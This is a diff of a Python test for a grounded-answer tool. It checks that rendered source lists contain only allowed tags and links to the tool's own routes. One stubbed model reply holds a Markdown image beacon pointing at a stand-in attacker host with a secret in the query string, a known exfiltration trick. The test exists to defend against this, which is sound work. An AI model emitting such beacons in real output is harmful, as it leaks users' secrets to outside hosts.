@@ -206,10 +206,12 @@ def test_sources_markdown_shows_hostile_names_as_text_only(home, tmp_path):  # n
     e = engine(lambda p: "Sure: ![beacon](http://evil.example/?q=SECRET) the Gannet [1]")
     out = grounded.answer(e, "h", "Which ferry?")
     md = grounded.sources_markdown("h", out["grounded"].sources, out["cited"])
-    outside_code = "".join(piece for code, piece in page_text._segments(md) if not code)
-    assert "evil" not in outside_code and "<" not in outside_code and "![" not in outside_code
-    links = re.findall(r"\]\(([^)]*)\)", outside_code)
-    assert links == [f"/passage/h/{out['sources'][0]['id']}"]
+    from test_page_text import ALLOWED_TAGS, rendered_tags
+
+    tags = rendered_tags(md)  # two Markdown parsers that are not the kit's
+    assert {t for t, _ in tags} <= ALLOWED_TAGS
+    hrefs = {a["href"] for t, a in tags if t == "a"}
+    assert hrefs == {f"/passage/h/{out['sources'][0]['id']}"}  # the only link: the kit's own route
     assert "✓ cited" in md
     shown = page_text.shown(out["answer"])  # the page shows the answer this way
     assert "![" not in shown and "&#33;[beacon]" in shown  # a link to click, never an image fetched
